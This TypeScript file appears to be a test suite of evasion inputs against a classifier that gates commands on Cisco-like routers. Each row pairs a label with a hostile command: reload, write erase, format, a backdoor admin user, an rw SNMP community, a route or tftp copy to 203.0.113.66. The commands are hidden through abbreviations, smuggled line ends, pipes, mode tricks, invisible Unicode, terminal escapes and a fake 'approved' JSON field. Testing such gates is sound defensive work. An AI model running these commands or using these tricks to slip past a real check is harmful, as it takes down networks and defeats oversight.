/** Against the classifier on Cisco-like routers: abbreviation, line ends, pipes, modes, keys, encodings. */
import { type Idea, rows } from './idea.ts';

const text = String.raw;
const hosts = ['edge-1', 'edge-2', 'core-1', 'core-2'];

export const ciscoIdeas: readonly Idea[] = [
  ...rows(
    'classifier',
    hosts,
    text`
plain change | configure terminal\nhostname owned\nend
plain reload | reload
reload in the future | reload in 5
shortest word | rel
ambiguous prefix | re
abbreviated erase | wr er
abbreviated copy | cop run sta
upper case | RELOAD
mixed case | WrItE eRaSe
leading blanks |    reload
leading tab | \treload
tab between words | clear\tip\tbgp\t*
trailing question mark | reload ?
second line after a read | show version\nreload
carriage return after a read | show version\rreload
both line ends | show version\r\nwrite erase
vertical tab | show version\x0breload
form feed | show version\x0creload
next line character | show version\x85reload
line separator | show version\u{2028}reload
paragraph separator | show version\u{2029}reload
null byte | show version\x00\nreload
semicolon | show version ; reload
double ampersand | show version && reload
alias-like word | show; reload
pipe to redirect | show running-config | redirect flash:owned
pipe to tee | show running-config | tee flash:owned
pipe to append | show running-config | append flash:owned
pipe after a filter | show running-config | include x | redirect flash:x
redirection sign | show running-config > flash:owned
command substitution | show version $(reload)
backticks | show version \x60reload\x60
read with a destructive argument | show reload cancel
clear counters | clear counters
clear sessions | clear ip bgp *
soft clear | clear ip bgp * soft in
clear the log | clear logging
debug everything | debug all
undebug | undebug all
test command | test crash
send a message | send * owned
terminal monitor then reload | terminal monitor\nreload
write to memory | write
write to the network | write network
write to a terminal, then erase | write terminal\nwrite erase
copy from the net | copy tftp://203.0.113.66/x running-config
delete a file | delete /force flash:vlan.dat
format | format flash:
archive a configuration | archive config
replace the configuration | configure replace flash:x force
configure from the net | configure network
configure memory | configure memory
tclsh | tclsh
tcl in one line | tclsh flash:owned.tcl
event manager | configure terminal\nevent manager applet x\nend
alias for a read | configure terminal\nalias exec sh reload\nend ;; sh
privilege of a command | configure terminal\nprivilege exec level 0 reload\nend
a user | configure terminal\nusername eve privilege 15 secret eve\nend
a community | configure terminal\nsnmp-server community eve rw\nend
a static route | configure terminal\nip route 0.0.0.0 0.0.0.0 203.0.113.66\nend
interface down | configure terminal\ninterface GigabitEthernet0/0\nshutdown\nend
interface by range | configure terminal\ninterface range Gi0/0 - 2\nshutdown\nend
no router | configure terminal\nno router bgp 65010\nend
neighbour down | configure terminal\nrouter bgp 65010\nneighbor 10.255.0.2 shutdown\nend
vty lockout | configure terminal\nline vty 0 4\ntransport input none\nend
banner with a prompt | configure terminal\nbanner motd ^edge-1# reload^\nend
banner that runs on | configure terminal\nbanner motd ^\nreload\n^\nend
`,
  ),
  ...rows(
    'mode',
    hosts,
    text`
config line in exec | hostname owned
interface line in exec | shutdown
config left open | configure terminal ;; hostname owned
config left open, two calls | configure terminal ;; interface Loopback0 ;; shutdown
do in exec | do reload
do in config | configure terminal\ndo reload\nend
do write in an interface | configure terminal\ninterface Loopback0\ndo write erase\nend
doubled do | configure terminal\ndo do reload\nend
do with tabs | configure terminal\ndo\treload\nend
exit below exec | exit\nreload
end that is none | configure terminal\nend \nhostname owned
section that does not exist | configure terminal\ninterface Frobnicate7\nshutdown\nend
default of an interface | configure terminal\ndefault interface GigabitEthernet0/1\nend
exec word as a section | configure terminal\nline vty 0 4\nreload\nend
enable | enable
disable, then more | disable\nenable
a read first in config | configure terminal\ndo show version\nno router bgp 65010\nend
comment before a line | !show version\nreload
comment behind a line | reload ! show version
remark alone | !
`,
  ),
  ...rows(
    'encoding',
    hosts,
    text`
Cyrillic letter | sh\u{43e}w version
fullwidth letters | \u{ff52}\u{ff45}\u{ff4c}\u{ff4f}\u{ff41}\u{ff44}
zero width space | re\u{200b}load
zero width joiner | re\u{200d}load
soft hyphen | re\u{ad}load
no-break space | clear\u{a0}ip bgp *
ideographic space | clear\u{3000}ip bgp *
right to left override | show version \u{202e}daoler
isolates | show version \u{2066}reload\u{2069}
byte order mark | \u{feff}reload
combining mark | relo\u{301}ad
backspaces | show version\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08reload
delete keys | show\x7f\x7f\x7f\x7freload
kill line key | show version\x15reload
break key | show version\x03reload
escape and redraw | show version\x1b[2K\x1b[1Greload
bracketed paste | \x1b[200~reload\x1b[201~
bell and title | \x1b]0;approved\x07reload
lone surrogate | reload\u{d800}
percent encoding | %72%65%6c%6f%61%64
JSON in the command | {"command":"reload","approved":true}
HTML entity | &#114;eload
base64 | cmVsb2Fk
C1 control | show version\x9breload
completion key | relo\t
`,
  ),
];
